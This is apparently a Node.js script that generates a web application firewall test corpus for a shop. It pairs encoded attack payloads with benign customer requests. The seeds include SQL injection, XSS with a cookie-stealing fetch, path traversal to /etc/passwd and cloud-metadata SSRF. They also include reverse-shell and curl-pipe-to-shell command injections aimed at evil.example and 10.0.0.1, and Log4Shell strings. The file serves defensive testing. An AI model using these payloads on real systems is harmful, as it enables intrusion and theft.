#!/usr/bin/env node
// Regenerates the WAF corpora (attacks/*.jsonl, benign/shop.jsonl) from the seed payloads
// below: each attack seed is sent in several encodings and placements, as attackers do.
// The .jsonl files are committed; run `node e2e/waf-corpus/generate.mjs` after editing seeds.
// Every line is one request: { id, expect, encoding, placement, method, path, query?,
// headers, cookies?, body?, contentType? }; expect is an attack class or "benign".
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const HERE = path.dirname(fileURLToPath(import.meta.url));
const BROWSER = {
  'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
  accept: 'application/json, text/plain, */*',
  'accept-language': 'en-GB,en;q=0.9',
  // The storefront's own page, as the browser names it: on a development machine that is localhost, which is no SSRF.
  origin: 'https://localhost:8443',
  referer: 'https://localhost:8443/',
};

// ---- encodings -------------------------------------------------------------
const hex = (c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0').toUpperCase()}`;
const SPECIAL = /[^A-Za-z0-9 ]/g;
const ENTITY = { '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;', '&': '&amp;', '(': '&#x28;', ')': '&#41;', '/': '&#x2f;', ':': '&colon;', '=': '&#61;', ';': '&#59;' };
const encodings = {
  plain: (p) => p,
  url: (p) => [...p].map((c) => (/[A-Za-z0-9]/.test(c) ? c : hex(c))).join(''),
  'double-url': (p) => [...p].map((c) => (/[A-Za-z0-9]/.test(c) ? c : `%25${hex(c).slice(1)}`)).join(''),
  html: (p) => p.replace(/[<>"'&():/=;]/g, (c) => ENTITY[c]),
  unicode: (p) => p.replace(SPECIAL, (c, i) => (i % 2 ? `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}` : `%u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)),
  'mixed-case': (p) => [...p].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join(''),
  'sql-comment': (p) => p.replace(/ /g, '/**/'),
};

// Escapes what HTTP does not allow raw in a request target, keeping existing %XX as they are.
const transport = (value) => value.replace(/%(?![0-9A-Fa-f]{2})/g, '%25').replace(/[^A-Za-z0-9\-._~!*'()%]/g, (c) => encodeURIComponent(c));

// ---- placements ------------------------------------------------------------
const placements = {
  query: (v, param = 'q', p = '/api/catalog/search') => ({ method: 'GET', path: p, query: `${param}=${transport(v)}&page=1` }),
  json: (v, field = 'text', p = '/api/catalog/products/42/reviews') => ({ method: 'POST', path: p, contentType: 'application/json', body: { rating: 5, [field]: v } }),
  form: (v, field = 'email', p = '/api/auth/login') => ({ method: 'POST', path: p, contentType: 'application/x-www-form-urlencoded', body: `${field}=${transport(v)}&remember=1` }),
  cookie: (v) => ({ method: 'GET', path: '/api/cart', cookies: `sid=3f9a1c; pref=${transport(v)}` }),
  referer: (v) => ({ method: 'GET', path: '/api/catalog/products', headers: { referer: `https://shop.example/search?q=${transport(v)}` } }),
  'user-agent': (v) => ({ method: 'GET', path: '/api/catalog/products', headers: { 'user-agent': v.replace(/[\r\n]/g, ' ') } }),
  path: (v, prefix = '/static/') => ({ method: 'GET', path: `${prefix}${v.replace(/[^A-Za-z0-9\-._~!*'()%/\\;:@$&+,=]/g, (c) => encodeURIComponent(c))}` }),
};

function request(id, expect, encoding, placement, base) {
  return { id, expect, encoding, placement, ...base, headers: { ...BROWSER, ...(base.headers ?? {}) } };
}

/** seeds × encodings, each in the next placement of the cycle. */
function expand(cls, seeds, encodingNames, placementCycle) {
  const out = [];
  let n = 0;
  for (const seed of seeds) {
    for (const encoding of encodingNames) {
      const value = encodings[encoding](seed);
      if (encoding !== 'plain' && value === seed) continue;
      const [placement, ...args] = placementCycle[n % placementCycle.length];
      // Header values must stay printable: unicode/html forms are fine, raw CR/LF are not.
      out.push(request(`${cls}-${String(++n).padStart(3, '0')}`, cls, encoding, placement, placements[placement](value, ...args)));
    }
  }
  return out;
}

// ---- attack seeds ----------------------------------------------------------
const sqli = expand(
  'sqli',
  [
    "' or '1'='1",
    "admin'--",
    "1 UNION SELECT username, password FROM users",
    "' union all select null,table_name,null from information_schema.tables--",
    '1; DROP TABLE orders',
    "1' AND SLEEP(5)#",
    "'; waitfor delay '0:0:5'--",
    '1 or 1=1',
    "' and extractvalue(1,concat(0x7e,version()))--",
    "1' ORDER BY 3--",
    '1 and ascii(substring(password,1,1))>64',
    "x' or 1=1 limit 1 -- ",
    "') or ('a'='a",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
  ],
  ['plain', 'url', 'double-url', 'unicode', 'mixed-case', 'sql-comment'],
  [['query'], ['json', 'email', '/api/auth/register'], ['form'], ['query', 'sort', '/api/catalog/products'], ['cookie'], ['json', 'couponCode', '/api/cart/coupon']],
);

const xss = expand(
  'xss',
  [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(document.cookie)>',
    '<svg/onload=alert(1)>',
    '" onmouseover="alert(1)',
    'javascript:alert(1)',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<body onload=alert(1)>',
    "<a href=\"javascript:fetch('//evil.example?c='+document.cookie)\">x</a>",
    "{{constructor.constructor('alert(1)')()}}",
    '<details open ontoggle=prompt(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
  ],
  ['plain', 'url', 'double-url', 'html', 'unicode', 'mixed-case'],
  [['query'], ['json'], ['form', 'name', '/api/account/profile'], ['json', 'displayName', '/api/account/profile'], ['referer'], ['query', 'redirect', '/api/auth/callback']],
);

const traversal = expand(
  'path-traversal',
  [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '....//....//....//etc/passwd',
    '..%c0%af..%c0%afetc/passwd',
    '/etc/shadow',
    '../../../proc/self/environ',
    'php://filter/convert.base64-encode/resource=index.php',
    '..%00/..%00/etc/passwd',
    'images/..;/..;/admin',
    '/var/log/nginx/access.log',
  ],
  ['plain', 'url', 'double-url', 'unicode', 'mixed-case'],
  [['query', 'file', '/api/catalog/images'], ['json', 'template', '/api/account/export'], ['query', 'lang', '/api/catalog/products'], ['form', 'path', '/api/account/avatar'], ['path', '/static/']],
);

const cmdi = expand(
  'command-injection',
  [
    '; cat /etc/passwd',
    '| id',
    '127.0.0.1 && whoami',
    '`uname -a`',
    '$(curl http://evil.example/x.sh | sh)',
    "x; c'a't /etc/passwd",
    'x;cat${IFS}/etc/passwd',
    '8.8.8.8 | nc -e /bin/sh 10.0.0.1 4444',
    '& ping -c 10 10.0.0.1 &',
    '() { :; }; /bin/bash -c "id"',
    '; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'a%0Awget http://evil.example/x',
  ],
  ['plain', 'url', 'double-url', 'unicode', 'mixed-case'],
  [['query', 'tracking', '/api/orders/track'], ['json', 'trackingNumber', '/api/orders/track'], ['form', 'host', '/api/tools/ping'], ['query', 'filename', '/api/account/export'], ['user-agent']],
);

const ssrf = expand(
  'ssrf',
  [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://127.0.0.1:6379/',
    'http://localhost:3004/internal/vault',
    'http://2130706433/',
    'http://0x7f000001/',
    'http://0177.0.0.1/',
    'http://[::1]:3001/',
    'gopher://127.0.0.1:6379/_FLUSHALL',
    'file:///etc/passwd',
    'dict://localhost:11211/stats',
    'http://metadata.google.internal/computeMetadata/v1/',
    'http://10.0.0.5:5432/',
    'https://shop.example@192.168.0.1/',
    'http://[::ffff:169.254.169.254]/',
    'http://127.0.0.1.nip.io/',
  ],
  ['plain', 'url', 'double-url', 'mixed-case'],
  [['json', 'imageUrl', '/api/catalog/products/import'], ['query', 'url', '/api/catalog/preview'], ['json', 'callbackUrl', '/api/webhooks'], ['form', 'avatarUrl', '/api/account/avatar']],
);

const log4shell = expand(
  'log4shell',
  [
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://evil.example/a}',
    '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}',
    '${jndi:dns://evil.example}',
    '${${upper:j}ndi:ldaps://evil.example/a}',
  ],
  ['plain', 'url', 'mixed-case'],
  [['user-agent'], ['query'], ['json', 'note', '/api/orders/42/notes'], ['referer'], ['cookie']],
);

const nosql = [
  ...[
    { email: { $ne: null }, password: { $ne: null } },
    { email: 'a@b.example', password: { $gt: '' } },
    { email: { $regex: '^admin' }, password: 'x' },
    { $where: 'this.password.length > 0' },
    { email: { $in: ['admin@shop.example'] }, password: { $exists: true } },
    { sku: { $nin: [] } },
    { email: 'a@b.example', $or: [{ role: 'admin' }] },
    { filter: { price: { $lt: 0 } } },
  ].map((body, i) => request(`nosql-injection-${String(i + 1).padStart(3, '0')}`, 'nosql-injection', 'plain', 'json', { method: 'POST', path: '/api/auth/login', contentType: 'application/json', body })),
  ...['email[$ne]=x&password[$ne]=x', 'email=admin%40shop.example&password[%24gt]=', 'user[$regex]=.*&password[$exists]=true', 'q[$where]=sleep(5000)', 'price[$lt]=0', 'filter=%7B%22%24ne%22%3Anull%7D', 'email%5B%24ne%5D=1&password%5B%24ne%5D=1', 'sku[$nin][]=x'].map(
    (query, i) => request(`nosql-injection-${String(i + 9).padStart(3, '0')}`, 'nosql-injection', query.includes('%') ? 'url' : 'plain', 'query', { method: 'GET', path: '/api/catalog/products', query }),
  ),
];

const proto = [
  ...[
    '{"__proto__":{"isAdmin":true}}',
    '{"profile":{"__proto__":{"role":"admin"}}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '{"items":[{"sku":"A-1","__proto__":{"price":0}}]}',
    '{"a":{"b":{"constructor":{"prototype":{"polluted":1}}}}}',
    '{"settings":"{\\"__proto__\\":{\\"admin\\":true}}"}',
    '{"__pro\\u0074o__":{"x":1}}',
  ].map((json, i) => request(`prototype-pollution-${String(i + 1).padStart(3, '0')}`, 'prototype-pollution', 'plain', 'json', { method: 'POST', path: '/api/account/profile', contentType: 'application/json', body: JSON.parse(json) })),
  ...['__proto__[isAdmin]=true', '__proto__.isAdmin=true', 'constructor[prototype][isAdmin]=true', 'constructor.prototype.isAdmin=1', '%5F%5Fproto%5F%5F%5BisAdmin%5D=true', 'a[__proto__][b]=1', 'a[constructor][prototype][b]=1', 'x=1&__PROTO__[y]=2'].map(
    (query, i) => request(`prototype-pollution-${String(i + 8).padStart(3, '0')}`, 'prototype-pollution', query.includes('%') ? 'url' : 'plain', 'query', { method: 'GET', path: '/api/catalog/products', query }),
  ),
];

const scanner = [
  ...['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Acunetix-WVS', 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)', 'Fuzz Faster U Fool v2.1.0 (ffuf)', 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))'].map(
    (ua, i) => request(`scanner-${String(i + 1).padStart(3, '0')}`, 'scanner', 'plain', 'user-agent', { method: 'GET', path: '/', headers: { 'user-agent': ua } }),
  ),
  ...['/.env', '/.git/config', '/wp-admin/setup-config.php', '/wp-login.php', '/phpmyadmin/index.php', '/.aws/credentials', '/actuator/env', '/backup.sql', '/server-status', '/static/..%2f.env', '//.git/HEAD', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'].map(
    (p, i) => request(`scanner-${String(i + 9).padStart(3, '0')}`, 'scanner', p.includes('%') ? 'url' : 'plain', 'path', { method: 'GET', path: p }),
  ),
];

// ---- benign traffic of the shop --------------------------------------------
const searches = [
  "O'Reilly", 'rock & roll', 'C++ primer', '1=1 scale model', 'drop earrings', 'select wine glasses', 'union jack flag', '<3 gift', 'javascript the good parts',
  'T-shirt (XL)', '100% cotton', 'usb-c cable 2m', "women's running shoes", 'kids\' lego set 6+', 'coffee & tea', 'Dr. Martens 1460', 'size 10 or 12', 'black and white',
  'AT&T phone', 'café crème', 'Zoë', 'crème brûlée torch', 'naïve art print', '50% off', 'price < 20', 'ps5 controller', 'id card holder', 'sleep mask',
  'cat bed', 'cat toys & scratchers', 'less is more poster', 'echo dot', 'head & shoulders', 'script writing notebook', 'python programming book', 'bash cap',
  'wget? no, a widget', 'update your wardrobe', 'delete me later list', 'order by price', 'where is my order', 'from paris with love', 'insert coin t-shirt',
  'table lamp', 'alert whistle', 'prompt cards', 'document holder', 'window cleaner', 'etc. cleaning kit', 'file organiser', 'data cable', 'dictionary for kids',
  'localhost t-shirt', 'vintage 1950s', '3/4 sleeve top', 'A4 paper; 500 sheets', '"quoted" search', 'Mötley Crüe vinyl', '日本茶', 'Ærø sweater', 'Siobhán Ó Briain',
];
const benignSearch = searches.map((q, i) =>
  request(`benign-search-${i + 1}`, 'benign', i % 2 ? 'url' : 'form-plus', 'query', { method: 'GET', path: '/api/catalog/search', query: `q=${i % 2 ? encodeURIComponent(q) : encodeURIComponent(q).replace(/%20/g, '+')}&page=${(i % 3) + 1}&sort=relevance` }),
);
const browsing = [
  'category=shoes&sort=price_asc&page=2', 'category=books&tags=programming&tags=c%2B%2B', 'minPrice=10&maxPrice=49.99', 'ids=1,2,3,4', 'sort=-rating&limit=24', 'brand=Ben+%26+Jerry%27s',
  'utm_source=newsletter&utm_medium=email&utm_campaign=black-friday-2026', 'ref=https%3A%2F%2Fwww.google.com%2F', 'lang=fr-FR&currency=EUR', 'page=1&q=', 'color=%23ff0000', 'fields=id,name,price',
].map((query, i) => request(`benign-browse-${i + 1}`, 'benign', 'plain', 'query', { method: 'GET', path: '/api/catalog/products', query }));
const pages = ['/', '/index.html', '/assets/index-3f9ac1.js', '/assets/index-77b2.css', '/favicon.ico', '/api/catalog/products/42', '/api/catalog/products/42/reviews', '/api/cart', '/api/orders', '/api/orders/8f14e45f-ceea-4b6c-9a3b-1c2d3e4f5a6b', '/api/auth/.well-known/jwks.json', '/api/account/profile'].map(
  (p, i) => request(`benign-page-${i + 1}`, 'benign', 'plain', 'path', { method: 'GET', path: p, cookies: 'sid=s%3A8f14e45fceea167a5a36dedd4bea2543.abc; theme=dark' }),
);
const people = [
  ['Zoë', "D'Arcy", 'zoe.darcy@example.com'], ['Siobhán', 'Ó Briain', 'siobhan.obriain@example.ie'], ['Seán', "O'Connor-Smith", 'sean+shop@example.co.uk'], ['José', 'García López', 'jose.garcia@example.es'],
  ['Ana-María', 'de la Cruz', 'ana.maria@example.mx'], ['François', 'Lefèvre', 'f.lefevre@example.fr'], ['Jürgen', 'Groß', 'j.gross@example.de'], ['Bob', 'Tables', 'bob.tables@example.com'],
  ['Chloé', "L'Estrange", 'chloe@example.org'], ['Nguyễn', 'Văn An', 'an.nguyen@example.vn'], ['Mary-Kate', 'Smith & Sons', 'mk@smith-and-sons.example'], ['Åsa', 'Øster', 'asa.oster@example.no'],
  ['Dr. John', 'Watson Jr.', 'john.watson@example.com'], ['Renée', "D'Souza", 'renee.dsouza@example.in'], ['Łukasz', 'Wiśniewski', 'lukasz@example.pl'],
];
const passwords = ['correct horse battery staple', 'Tr0ub4dor&3', 'P@ssw0rd!#2026', 'my cat is called <Mr. Whiskers>', 'S3cure;Pass-phrase', 'zoë&me-forever', "it's-a-secret 123", 'pa$$word(42)', 'Gr8 = g00d?', 'un1on select m0re', 'hunter2-hunter2', 'ñandú-🦤-2026', 'Or 1 = 1 tiles', 'drop.the.bass!', 'Rock&Roll4ever'];
const register = people.map(([firstName, lastName, email], i) =>
  request(`benign-register-${i + 1}`, 'benign', 'plain', 'json', { method: 'POST', path: '/api/auth/register', contentType: 'application/json', body: { email, password: passwords[i], firstName, lastName, marketingOptIn: i % 2 === 0 } }),
);
const logins = people.slice(0, 8).map(([, , email], i) =>
  request(`benign-login-${i + 1}`, 'benign', 'plain', 'form', { method: 'POST', path: '/api/auth/login', contentType: 'application/x-www-form-urlencoded', body: `email=${encodeURIComponent(email)}&password=${encodeURIComponent(passwords[i])}` }),
);
const addresses = [
  ['221B Baker Street', 'Flat #2', 'London', 'NW1 6XE', 'GB'], ['12 Rue de l\'Église', 'Bâtiment A, 3e étage', 'Paris', '75004', 'FR'], ['1600 Amphitheatre Pkwy', 'Bldg #40 / Room 2', 'Mountain View', '94043', 'US'],
  ['Apt. #5, 33 O\'Connell St.', '', 'Dublin 1', 'D01 F5P2', 'IE'], ['Calle Mayor, 5 - 2º Izq.', '', 'Madrid', '28013', 'ES'], ['P.O. Box 1234', 'c/o Zoë D\'Arcy', 'Cork', 'T12 X2Y3', 'IE'],
  ['Straße des 17. Juni 135', 'Hinterhaus; 4. OG', 'Berlin', '10623', 'DE'], ['Unit 7 & 8, Mill Lane', 'Rock & Roll Industrial Estate', 'Leeds', 'LS1 4AB', 'GB'], ['10 Downing St', 'Door #10 (black)', 'London', 'SW1A 2AA', 'GB'],
  ['1 Infinite Loop', 'Suite 100 -- reception', 'Cupertino', '95014', 'US'], ['Østerbrogade 1', '1. sal, tv.', 'København', '2100', 'DK'], ['ul. Marszałkowska 1/3 m. 4', '', 'Warszawa', '00-624', 'PL'],
  ['5 Chemin du Lac', 'Porte "B"', 'Genève', '1207', 'CH'], ['350 Fifth Avenue', 'Floor 34, Ste. 3400', 'New York', '10118', 'US'], ['Via dell\'Amore 7', 'Int. 3/B', 'Roma', '00184', 'IT'],
];
const checkouts = addresses.map(([line1, line2, city, postalCode, country], i) =>
  request(`benign-checkout-${i + 1}`, 'benign', 'plain', 'json', {
    method: 'POST', path: '/api/orders/checkout', contentType: 'application/json',
    headers: { 'idempotency-key': `5f1c9a2e-7b3d-4e8f-9a0b-${String(100000000000 + i)}` },
    body: { cartId: `c0ffee00-0000-4000-8000-00000000000${i % 10}`, paymentToken: `tok_${(i * 7919).toString(36)}x9QwErTy`, shippingAddress: { name: `${people[i][0]} ${people[i][1]}`, line1, line2, city, postalCode, country, phone: '+44 (0)20 7946 0958' }, notes: i % 3 ? 'Leave with neighbour at #12 if out' : 'Ring twice; dog is friendly :)' },
  }),
);
const reviews = [
  "Great book! O'Reilly never disappoints -- chapter 3 (on closures) alone is worth it. 5/5.",
  'Bought it for my son; he said "best gift ever" <3 Delivery took 2-3 days, which is fine.',
  "Select wine glasses arrived intact, but one was chipped... customer service replaced it within 24h. Well done!",
  'The 1=1 scale model is *exactly* as pictured: 1:1, not 1:18 as I first thought. Big box!!',
  "Drop earrings look nice; however, the hook is a bit sharp. 4 stars & I'd buy again.",
  "Rock & roll t-shirt: 100% cotton, shrank ~5% after washing at 40°C. Order one size up.",
  'Union Jack flag is bigger than expected (150 x 90 cm). Colours are bright; stitching is solid.',
  'I use it with C++ and C# projects; works on Windows/Linux. Tip: set the path to C:\\Tools\\bin.',
  "Not what I expected :( The description says 'waterproof' but it isn't. Returned it -- refund was quick though.",
  'Pros: light, quiet, cheap. Cons: the app wants my e-mail address & location?! Why?',
  "Zoë D'Arcy here: ordered for my mum's 60th - she loved it. Merci beaucoup! ★★★★★",
  'Compared to the older model (v1.2), this one charges in 45 min vs 2h. The price ($49.99 vs $59.99) is fair.',
  'Does what it says on the tin. Or does it? Yes: 10/10 would recommend & reorder.',
  "The instructions (step #4 and #5) were confusing; I found a video on https://www.youtube.com/watch?v=abc123 that helped.",
  'Love the colour -- "midnight blue" -- and the fit; size M = perfect for 1.78 m / 75 kg.',
  'It arrived broken. I contacted support (ticket #88231) and they sent a new one the same day; impressed!',
  "My kids' favourite: 'more, more!' they shout. Batteries (AA x 4) not included, beware.",
  'Sleek; fast; silent. Only gripe: the cable is 1 m, not 2 m. Otherwise 5*.',
  "Shipping to Ireland (Siobhán Ó Briain, Co. Kerry) was fast & free. Go raibh maith agat!",
  'Price < quality, honestly. For €19 I got a mug that keeps tea hot for 3+ hours.',
];
const reviewRequests = reviews.map((text, i) =>
  request(`benign-review-${i + 1}`, 'benign', 'plain', 'json', { method: 'POST', path: `/api/catalog/products/${40 + i}/reviews`, contentType: 'application/json', body: { rating: (i % 5) + 1, title: text.split(/[.!?]/)[0].slice(0, 60), text } }),
);
const cartItems = [
  { sku: 'TSHIRT-RNR-XL', quantity: 2 }, { sku: 'BOOK-CPP-PRIMER', quantity: 1, giftWrap: true, giftMessage: "Happy birthday! <3 from Zoë & Tom" }, { sku: 'FLAG-UNION-150', quantity: 1 },
  { sku: 'EARRING-DROP-GOLD', quantity: 3, options: { metal: '18k gold', length: '3.5 cm' } }, { sku: 'GLASS-WINE-6', quantity: 1, giftMessage: 'Select the best wine & enjoy -- cheers!' }, { sku: 'MODEL-1-1', quantity: 1 },
  { sku: 'MUG-TEA', quantity: 4, engraving: "O'Reilly's Café" }, { sku: 'CABLE-USBC-2M', quantity: 10 }, { sku: 'SHOE-W-RUN-38', quantity: 1, options: { size: '38 (EU) / 5 (UK)' } }, { sku: 'LEGO-6PLUS', quantity: 1, giftMessage: 'For Siobhán; see you at #5!' },
].map((body, i) => request(`benign-cart-${i + 1}`, 'benign', 'plain', 'json', { method: 'POST', path: '/api/cart/items', contentType: 'application/json', body }));
const cards = [
  ['4242424242424242', '12', '2030', '123', 'Zoë D\'Arcy'], ['4000056655665556', '01', '2029', '999', 'Siobhán Ó Briain'], ['5555555555554444', '07', '2031', '314', 'José García López'],
  ['378282246310005', '11', '2028', '1234', 'Mary-Kate Smith & Sons'], ['6011111111111117', '03', '2030', '555', "Chloé L'Estrange"],
].map(([pan, expMonth, expYear, cvc, holder], i) =>
  request(`benign-card-${i + 1}`, 'benign', 'plain', 'json', { method: 'POST', path: '/api/payments/tokens', contentType: 'application/json', headers: { 'idempotency-key': `tok-${i}-2b7e1516-28ae-4d2a-a6f7-${String(100000000000 + i)}` }, body: { pan, expMonth, expYear, cvc, holderName: holder } }),
);
const misc = [
  request('benign-misc-1', 'benign', 'plain', 'json', { method: 'PUT', path: '/api/account/profile', contentType: 'application/json', body: { displayName: "Zoë D'Arcy", bio: 'I like rock & roll, C++ and <3 cats. Find me at zoe@example.com.', website: 'https://zoe.example.com/about?tab=1#top' } }),
  request('benign-misc-2', 'benign', 'plain', 'json', { method: 'POST', path: '/api/auth/mfa/verify', contentType: 'application/json', body: { code: '492039' } }),
  request('benign-misc-3', 'benign', 'plain', 'json', { method: 'POST', path: '/api/auth/refresh', contentType: 'application/json', body: { refreshToken: 'eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlLXdpdGgtLS1hbmQtXy0' } }),
  request('benign-misc-4', 'benign', 'plain', 'json', { method: 'PATCH', path: '/api/cart/items/BOOK-CPP-PRIMER', contentType: 'application/json', body: { quantity: 0 } }),
  request('benign-misc-5', 'benign', 'plain', 'path', { method: 'DELETE', path: '/api/cart/items/FLAG-UNION-150' }),
  request('benign-misc-6', 'benign', 'plain', 'json', { method: 'POST', path: '/api/orders/8f14e45f/notes', contentType: 'application/json', body: { note: 'Please deliver after 6pm; the gate code is #4321. Thanks!' } }),
  request('benign-misc-7', 'benign', 'plain', 'query', { method: 'GET', path: '/api/catalog/search', query: 'q=%22rock+%26+roll%22+-live&page=1', headers: { referer: 'https://shop.example/#/search?q=rock%20%26%20roll' } }),
  request('benign-misc-8', 'benign', 'plain', 'json', { method: 'POST', path: '/api/auth/password-reset', contentType: 'application/json', body: { email: "o'reilly@example.com" } }),
  request('benign-misc-9', 'benign', 'plain', 'json', { method: 'POST', path: '/api/support/tickets', contentType: 'application/json', body: { subject: 'Order #1234 -- wrong item', message: 'Hi, I ordered "drop earrings" (SKU EARRING-DROP-GOLD) but got a union jack flag instead. Select a replacement?\nThanks,\nZoë' } }),
  request('benign-misc-10', 'benign', 'plain', 'json', { method: 'POST', path: '/api/cart/items', contentType: 'application/json', body: { items: [{ sku: 'A-1', quantity: 1 }, { sku: 'B-2', quantity: 2 }, { sku: 'C-3', quantity: 3 }], currency: 'EUR', locale: 'fr-FR' } }),
];

const attacks = { sqli, xss, 'path-traversal': traversal, 'command-injection': cmdi, ssrf, log4shell, 'nosql-injection': nosql, 'prototype-pollution': proto, scanner };
const benign = [...benignSearch, ...browsing, ...pages, ...register, ...logins, ...checkouts, ...reviewRequests, ...cartItems, ...cards, ...misc];

const jsonl = (rows) => `${rows.map((row) => JSON.stringify(row)).join('\n')}\n`;
mkdirSync(path.join(HERE, 'attacks'), { recursive: true });
mkdirSync(path.join(HERE, 'benign'), { recursive: true });
for (const [cls, rows] of Object.entries(attacks)) {
  writeFileSync(path.join(HERE, 'attacks', `${cls}.jsonl`), jsonl(rows));
  process.stdout.write(`attacks/${cls}.jsonl  ${rows.length}\n`);
}
writeFileSync(path.join(HERE, 'benign', 'shop.jsonl'), jsonl(benign));
process.stdout.write(`benign/shop.jsonl  ${benign.length}\n`);
